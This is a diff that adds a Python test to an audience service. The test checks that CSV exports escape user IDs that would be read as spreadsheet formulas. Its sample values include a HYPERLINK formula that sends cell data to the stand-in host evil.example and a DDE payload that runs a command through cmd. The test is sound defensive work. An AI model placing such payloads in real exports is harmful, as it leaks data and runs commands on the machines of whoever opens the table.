@@ -1,6 +1,7 @@
 """Audiences over HTTP: asked for, followed, fetched, and written down."""
 
 import asyncio
+import csv
 from collections.abc import AsyncIterator, Mapping
 from typing import Any
 
@@ -102,6 +103,34 @@ async def test_csv_has_the_same_people() -> None:
     assert head == "user_id,score"
     assert len(rows) == len(members) == 61
     assert any(row.startswith('"a ""quoted"", one",') for row in rows)
+
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A2,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\N{FULLWIDTH EQUALS SIGN}1+1",
+    "\t=1+1",  # of before ids were held to anything
+)
+
+
+async def test_no_id_is_a_formula_to_whoever_opens_the_table() -> None:
+    profiles = people()
+    for each in FORMULAS:
+        profiles.records[each] = profiles.records["milk-1"]
+    async with open_shop(await shop_of(profiles)) as client:
+        told = await ready(client, {**CHEESE, "size": 60 + len(FORMULAS)})
+        url = f"/audiences/{told['audience_id']}/members"
+        answer = await client.get(url, headers={"accept": "text/csv"})
+        members = await lines(client, told["audience_id"])
+
+    rows = [*csv.reader(answer.text.splitlines())][1:]
+    assert {*FORMULAS} <= {member["user_id"] for member in members}  # as they are
+    assert {f"'{each}" for each in FORMULAS} <= {user for user, _ in rows}
+    assert not [user for user, _ in rows if user in FORMULAS]
+    named = f'attachment; filename="audience-{told["audience_id"]}.csv"'
+    assert answer.headers["content-disposition"] == named
 
 
 async def test_who_was_erased_or_has_withdrawn_since_is_not_told() -> None:
